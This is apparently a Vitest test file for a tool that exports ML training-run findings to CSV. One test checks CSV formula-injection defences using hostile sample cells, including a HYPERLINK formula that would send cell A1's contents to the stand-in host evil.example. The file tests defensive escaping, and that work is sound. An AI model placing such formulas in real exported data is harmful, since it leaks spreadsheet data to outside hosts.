import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { AnalysisSummary, Finding } from '../../../src/lib/model';
import { buildFindingsCsv, FINDINGS_CSV_COLUMNS } from '../../../src/lib/report/findings-csv';
import { analyzeTable, seedSampleTable } from '../analysis/table-helper';

function parse(csv: string): Record<string, string>[] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<Record<string, string>>(csv.slice(1), {
    header: true,
    delimiter: ',',
    newline: '\r\n',
    skipEmptyLines: true,
  });
  expect(parsed.errors).toEqual([]);
  expect(parsed.meta.fields).toEqual([...FINDINGS_CSV_COLUMNS]);
  return parsed.data;
}

function finding(patch: Partial<Finding>): Finding {
  return {
    id: 'loss-spike:x',
    detector: 'loss-spike',
    severity: 'warning',
    title: 'Loss spike',
    runIds: [],
    rows: [],
    evidence: [],
    explanation: 'why',
    recommendation: 'try',
    ...patch,
  };
}

describe('findings CSV', () => {
  const summary = analyzeTable(seedSampleTable());

  it('has one row per finding and run, every finding covered', () => {
    const rows = parse(buildFindingsCsv(summary));
    const expected = summary.findings.reduce((n, f) => n + Math.max(1, f.runIds.length), 0);
    expect(rows).toHaveLength(expected);
    const nan = rows.filter((r) => r.detector === 'nan-metrics');
    expect(nan.map((r) => r.run_id).sort()).toEqual(['2', '4']);
    expect(nan.every((r) => r.severity === 'critical' && r.finding_runs !== '')).toBe(true);
    expect(rows.find((r) => r.detector === 'overfitting')?.evidence).toContain(
      'val_loss / train_loss = 5.333 (threshold ≥ 1.5)',
    );
  });

  it('writes curve steps and metric, and a row without run for sweep-level findings', () => {
    const s: AnalysisSummary = {
      ...summary,
      findings: [
        finding({
          runIds: ['run-a'],
          rows: [0],
          curve: { metric: 'train/loss', steps: [120, 340] },
        }),
        finding({ id: 'confounded-params:lr', detector: 'confounded-params', runIds: [] }),
      ],
    };
    const rows = parse(buildFindingsCsv(s));
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      run_id: 'run-a',
      metric: 'train/loss',
      first_step: '120',
      steps: '120 340',
      finding_runs: '1',
    });
    expect(rows[1]).toMatchObject({ run_id: '', detector: 'confounded-params', finding_runs: '0' });
  });

  it('neutralises formulas in ids, titles and evidence, keeping the text', () => {
    const hostileId = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    const s: AnalysisSummary = {
      ...summary,
      findings: [
        finding({
          runIds: [hostileId, '-1', '@cmd', 'ok\n=1+1'],
          rows: [0, 1, 2, 3],
          title: '+SUM(A1:A9)',
          evidence: [{ label: '-x', value: '-inf', threshold: '=2' }],
          recommendation: 'line one\n-line two',
        }),
      ],
    };
    const csv = buildFindingsCsv(s);
    const rows = parse(csv);
    expect(rows.map((r) => r.run_id)).toEqual([`'${hostileId}`, "'-1", "'@cmd", "'ok\n=1+1"]);
    expect(rows[0].title).toBe("'+SUM(A1:A9)");
    expect(rows[0].evidence).toBe("'-x = -inf (threshold =2)");
    expect(rows[0].suggestion).toBe("'line one\n-line two");
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\0]/);
    }
  });
});
